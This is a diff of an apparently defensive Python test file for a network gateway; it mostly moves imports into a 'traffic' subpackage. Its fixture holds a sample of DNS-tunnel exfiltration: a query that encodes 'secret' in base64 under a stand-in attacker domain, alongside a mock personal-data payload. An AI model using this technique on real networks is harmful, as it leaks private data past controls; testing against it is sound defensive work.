@@ -6,7 +6,7 @@ from ipaddress import ip_address
 
 from gateway_scene import ATTACKER, HELLO, LEDGER_HOUSE, Case, Scene, carry_on, opened, plain, tls
 
-from enclave.gateway.conversations import (
+from enclave.gateway.traffic.conversations import (
     CLIENT,
     SERVER,
     UDP,
@@ -17,9 +17,9 @@ from enclave.gateway.conversations import (
     raw_flow,
     udp_flow,
 )
-from enclave.gateway.flows import Flow
-from enclave.gateway.hello import application_data, record
-from enclave.gateway.messages import (
+from enclave.gateway.traffic.flows import Flow
+from enclave.gateway.traffic.hello import application_data, record
+from enclave.gateway.traffic.messages import (
     HTTP2_PREFACE,
     SMTP_GREETING,
     SSH_BANNER,
@@ -29,7 +29,7 @@ from enclave.gateway.messages import (
     over_stream,
     quic_initial,
 )
-from enclave.gateway.packets import Header, Segment, packet, tcp_payload, udp_payload
+from enclave.gateway.traffic.packets import Header, Segment, packet, tcp_payload, udp_payload
 
 SECRET = b"personal data of Europeans " * 12
 QUESTION = dns_query("c2VjcmV0.tunnel.attacker.example")
